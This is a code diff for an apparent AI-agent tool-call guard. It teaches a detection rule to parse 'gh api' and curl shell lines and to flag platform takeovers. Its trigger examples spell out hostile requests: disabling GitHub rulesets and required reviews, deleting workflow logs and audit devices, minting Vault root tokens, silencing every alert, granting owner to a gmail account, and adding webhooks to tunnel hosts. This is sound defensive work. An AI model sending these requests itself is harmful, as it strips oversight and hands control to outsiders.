@@ -9,6 +9,7 @@ import { isJsonObject, type NetworkCall, type UnknownCall } from '../toolcall.js
 import { canonicalPath, classifyPath, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, urlPath } from '../knowledge/hosts.js';
 import { percentDecoded } from '../shell/decoders.js';
+import { ghApiCall } from '../shell/command-args.js';
 import { credentialHeader } from '../knowledge/secrets.js';
 import { EMAIL_ADDRESS, PERSONAL_MAILBOX, csvRows } from '../knowledge/payloads.js';
 
@@ -509,6 +510,39 @@ function requestOf(table: readonly ApiRequest[], call: NetworkCall): string | un
 }
 
 /**
+ * The REST requests a shell line makes, as Network calls, so the API tables judge them alike: `gh api -X PUT
+ * repos/o/r/rulesets/1 -f enforcement=disabled` (GitHub's API, its fields as the JSON body gh sends, `-F` values
+ * typed), and curl's method, headers, inline body and address.
+ */
+const shellRequests = perCall((view: CommandView): NetworkCall[] => {
+  const out: NetworkCall[] = [];
+  for (const c of view.commands) {
+    if (out.length >= 16) break;
+    if (c.name === 'gh') {
+      const api = ghApiCall(c.argv);
+      if (!api || /^https?:/.test(api.endpoint)) continue;
+      const body = Object.fromEntries([...api.fields].map(([k, v]) => [k, /^(?:true|false|null|-?\d{1,15})$/.test(v) ? JSON.parse(v) as unknown : v]));
+      out.push({ kind: 'network', method: api.method, url: `https://api.github.com/${api.endpoint}`, headers: {}, ...(api.fields.size ? { body: JSON.stringify(body) } : {}) });
+    } else if (c.name === 'curl') {
+      const a = c.argv;
+      let method: string | undefined;
+      let body: string | undefined;
+      let url: string | undefined;
+      const headers: Record<string, string> = {};
+      for (let k = 1; k < a.length && k < 256; k++) {
+        const w = a[k]!;
+        if (w === '-X' || w === '--request') method = a[++k];
+        else if (w === '-H' || w === '--header') { const h = a[++k] ?? ''; const colon = h.indexOf(':'); if (colon > 0) headers[h.slice(0, colon).trim()] = h.slice(colon + 1).trim(); }
+        else if (['-d', '--data', '--data-raw', '--data-binary', '--json'].includes(w)) { const v = a[++k] ?? ''; if (!v.startsWith('@')) body = v; }
+        else if (url === undefined && /^https?:\/\//i.test(w)) url = w;
+      }
+      if (url !== undefined) out.push({ kind: 'network', method: (method ?? (body !== undefined ? 'POST' : 'GET')).toUpperCase(), url, headers, ...(body !== undefined ? { body } : {}) });
+    }
+  }
+  return out;
+});
+
+/**
  * A request that hands an application a URL to fetch for it (`/proxy?url=…`, `/render?target=…`) naming the metadata
  * service or an API that hands out root on its own host: server-side request forgery, the app's network position used.
  */
@@ -556,6 +590,10 @@ const PLATFORM_TAKEOVERS: readonly ApiRequest[] = [
   { what: 'branch protection removed', method: ['DELETE'], path: /^\/(?:repos\/[^/]+\/[^/]+\/branches\/[^/]+\/protection(?:\/.*)?|api\/v4\/projects\/[^/]+\/protected_branches(?:\/.*)?)$/ },
   { what: 'branch protection switched off', method: ['PUT', 'PATCH'], path: /^\/repos\/[^/]+\/[^/]+\/branches\/[^/]+\/protection$/, body: /"required_pull_request_reviews"\s*:\s*null|"allow_force_pushes"\s*:\s*true/ },
   { what: 'a repository deleted', method: ['DELETE'], path: /^\/(?:repos\/[^/]+\/[^/]+|api\/v4\/projects\/[^/]+)$/ },
+  { what: 'required reviews dropped to none', method: ['PATCH', 'PUT'], path: /^\/repos\/[^/]+\/[^/]+\/branches\/[^/]+\/protection\/required_pull_request_reviews$/, body: /"required_approving_review_count"\s*:\s*0\b/ },
+  { what: 'a ruleset switched off', method: ['PUT', 'PATCH'], path: /^\/(?:repos\/[^/]+\/[^/]+|orgs\/[^/]+)\/rulesets\/[^/]+$/, body: /"enforcement"\s*:\s*"disabled"/ },
+  { what: "a workflow run's logs deleted", method: ['DELETE'], path: /^\/repos\/[^/]+\/[^/]+\/actions\/runs\/[^/]+\/logs$/ },
+  { what: 'merges without a passing pipeline', method: ['PUT'], path: /^\/api\/v4\/projects\/[^/]+$/, body: /only_allow_merge_if_pipeline_succeeds"?\s*[:=]\s*false/ },
   { what: 'a repository made public', method: ['PATCH', 'PUT'], path: /^\/(?:repos\/[^/]+\/[^/]+|api\/v4\/projects\/[^/]+)$/, body: /"(?:visibility|private)"\s*:\s*(?:"public"|false)/ },
   { what: 'an owner or administrator added', method: ['POST', 'PUT'], path: /^\/(?:api\/v4\/(?:projects|groups)\/[^/]+\/members|repos\/[^/]+\/[^/]+\/collaborators\/[^/]+|orgs\/[^/]+\/memberships\/[^/]+)$/, body: /"access_level"\s*:\s*50|"permission"\s*:\s*"admin"|"role"\s*:\s*"admin"/ },
   { what: 'every member made an administrator', method: ['PATCH'], path: /^\/orgs\/[^/]+$/, body: /"default_repository_permission"\s*:\s*"admin"/ },
@@ -1305,6 +1343,8 @@ export const RULES: readonly Rule[] = [
     message: "Uses a platform's REST API to hand out control, remove a guard or blind the defenders (Vault, GitHub, GitLab, cloud IAM, the identity provider, monitoring)",
     why: 'A root token, a write deploy key, branch protection removed, Owner at a subscription, a super administrator or every alert silenced is a way in, or a way to stay unseen, that outlives the session.',
     check: (i) => {
+      // from the shell, through gh api or curl
+      if (i.call.kind === 'bash') return i.view ? shellRequests(i.view).map((r) => requestOf(PLATFORM_TAKEOVERS, r)).find((x) => x !== undefined) : undefined;
       if (i.call.kind !== 'network') return undefined;
       const taken = requestOf(PLATFORM_TAKEOVERS, i.call);
       if (taken) return taken;
@@ -1315,8 +1355,8 @@ export const RULES: readonly Rule[] = [
       return kind !== undefined && EXFIL_KINDS.has(kind) ? `${i.call.method} ${i.call.url.slice(0, 160)} (a webhook to ${hook})` : undefined;
     },
     examples: {
-      fire: [{ Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"sync","role":"Admin","secondsToLive":0}' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/accounts/acct_1Ab/external_accounts', body: 'external_account%5Bobject%5D=bank_account' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/webhook_endpoints', body: 'url=https%3A%2F%2F5d21-193-42-33-17.ngrok-free.app%2Fs&enabled_events%5B%5D=%2A' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
-      quiet: [{ Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"dash","role":"Viewer","secondsToLive":86400}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/hooks', body: '{"name":"web","config":{"url":"https://ci.acme.io/github/webhook"},"events":["push"]}' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', body: '{"policies":["ci-read"],"ttl":"1h"}' } }, { Network: { method: 'GET', url: 'https://vault.corp.internal:8200/v1/secret/data/web/config' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":true}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/issues', body: '{"title":"flaky test"}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":"DiskFull","isRegex":false}],"endsAt":"2025-06-11T10:00:00Z"}' } }, { Network: { method: 'PATCH', url: 'https://api.github.com/repos/acme/api', body: '{"description":"Payments API"}' } }],
+      fire: ['gh api -X PUT repos/acme/infra/rulesets/481203 -f enforcement=disabled', 'gh api -X PATCH repos/acme/web/branches/main/protection/required_pull_request_reviews -F required_approving_review_count=0', 'curl -s -X PUT -H "PRIVATE-TOKEN: $GL_TOKEN" "https://gitlab.corp.example/api/v4/projects/218" --data "only_allow_merge_if_pipeline_succeeds=false"', 'gh api -X DELETE repos/acme/api/actions/runs/9123456789/logs', { Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"sync","role":"Admin","secondsToLive":0}' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/accounts/acct_1Ab/external_accounts', body: 'external_account%5Bobject%5D=bank_account' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/webhook_endpoints', body: 'url=https%3A%2F%2F5d21-193-42-33-17.ngrok-free.app%2Fs&enabled_events%5B%5D=%2A' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
+      quiet: ['gh api repos/acme/infra/rulesets', 'gh api -X PATCH repos/acme/web/branches/main/protection/required_pull_request_reviews -F required_approving_review_count=2', 'gh api -X DELETE repos/acme/api/actions/caches/1234', { Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"dash","role":"Viewer","secondsToLive":86400}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/hooks', body: '{"name":"web","config":{"url":"https://ci.acme.io/github/webhook"},"events":["push"]}' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', body: '{"policies":["ci-read"],"ttl":"1h"}' } }, { Network: { method: 'GET', url: 'https://vault.corp.internal:8200/v1/secret/data/web/config' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":true}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/issues', body: '{"title":"flaky test"}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":"DiskFull","isRegex":false}],"endsAt":"2025-06-11T10:00:00Z"}' } }, { Network: { method: 'PATCH', url: 'https://api.github.com/repos/acme/api', body: '{"description":"Payments API"}' } }],
     },
   },
 ];
